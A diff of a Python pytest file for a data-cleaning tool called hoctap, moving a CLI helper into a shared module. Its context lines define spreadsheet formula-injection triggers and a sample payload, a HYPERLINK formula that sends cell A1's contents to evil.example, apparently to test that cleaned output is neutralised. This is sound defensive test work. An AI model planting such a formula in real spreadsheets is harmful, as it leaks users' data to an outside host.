@@ -20,12 +20,12 @@ import pandas as pd
 import pytest
 
 from builders import corpus
+from builders.cli import HOCTAP, clean
 from builders.corpus import Book, default_info, village, write_xlsx
 from hoctap import io
 from hoctap.paths import SHIPPED_REFERENCE_DIR, Workspace
 
 REPO = Path(__file__).resolve().parents[2]
-HOCTAP = REPO / ".venv" / "bin" / "hoctap"
 YEAR = corpus.YEAR
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
@@ -35,24 +35,6 @@ def new_workspace(root: Path) -> Workspace:
     shutil.copytree(SHIPPED_REFERENCE_DIR, root / "data" / "reference")
     (root / "data" / "raw" / str(YEAR)).mkdir(parents=True)
     return Workspace.at(root / "data", root / "reports")
-
-
-def clean(ws: Workspace) -> subprocess.CompletedProcess:
-    return subprocess.run(
-        [
-            str(HOCTAP),
-            "clean",
-            "--year",
-            str(YEAR),
-            "--data-dir",
-            str(ws.data_dir),
-            "--reports-dir",
-            str(ws.reports_dir),
-        ],
-        capture_output=True,
-        text=True,
-        timeout=300,
-    )
 
 
 def raw_cells(path: Path) -> list[list[str]]:
